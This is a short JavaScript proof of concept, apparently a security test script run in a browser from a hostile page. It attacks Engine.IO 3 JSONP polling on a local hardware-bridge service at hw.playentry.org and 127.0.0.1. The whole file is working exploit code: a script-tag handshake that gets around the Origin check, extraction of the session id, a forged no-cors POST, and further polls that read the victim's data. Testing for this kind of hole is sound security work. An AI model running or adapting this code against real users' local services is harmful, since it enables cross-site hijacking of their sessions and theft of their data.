// Runs inside Chromium on a foreign page. Tries what a hostile site could do with Engine.IO 3's
// JSONP polling: a <script src> handshake (no Origin header), then, with the session id it read,
// a no-cors POST of a message and more <script> polls to read the parent's data.
// Everything it learns is in `window.attack`.
(() => {
  const params = new URLSearchParams(location.search);
  const port = params.get('port') || '23518';
  const roomId = params.get('roomId') || 'a0b1c2d3e4';
  const state = { scripts: [], calls: [], sids: [], posts: [], done: false };
  window.attack = state;
  window.___eio = [];
  let index = 0;

  const show = () => {
    document.getElementById('out').textContent = JSON.stringify(state, null, 2);
  };
  const load = (url) =>
    new Promise((resolve) => {
      const j = index;
      index += 1;
      const record = { url, outcome: 'pending' };
      state.scripts.push(record);
      window.___eio[j] = (data) => state.calls.push(String(data).slice(0, 1000));
      const script = document.createElement('script');
      script.src = `${url}&j=${j}`;
      script.onload = () => {
        record.outcome = 'load';
        resolve();
      };
      script.onerror = () => {
        record.outcome = 'error';
        resolve();
      };
      document.head.appendChild(script);
    });

  (async () => {
    for (const base of [`https://hw.playentry.org:${port}`, `http://127.0.0.1:${port}`]) {
      await load(`${base}/socket.io/?EIO=3&transport=polling&client=true&roomId=${roomId}&t=${Date.now()}`);
      const found = state.calls.map((c) => /"sid":"([^"]+)"/.exec(c)).find(Boolean);
      if (!found) continue;
      const sid = found[1];
      state.sids.push(sid);
      const packet = '42["message",{"data":"{\\"from\\":\\"jsonp\\"}","type":"utf8"}]';
      try {
        await fetch(`${base}/socket.io/?EIO=3&transport=polling&sid=${sid}&j=0`, {
          method: 'POST',
          mode: 'no-cors',
          headers: { 'content-type': 'application/x-www-form-urlencoded' },
          body: `d=${encodeURIComponent(`${packet.length}:${packet}`)}`,
        });
        state.posts.push('sent');
      } catch (error) {
        state.posts.push(String(error));
      }
      for (let i = 0; i < 3; i += 1) {
        await load(`${base}/socket.io/?EIO=3&transport=polling&sid=${sid}&t=${Date.now()}`);
      }
    }
    state.done = true;
    show();
  })();
})();
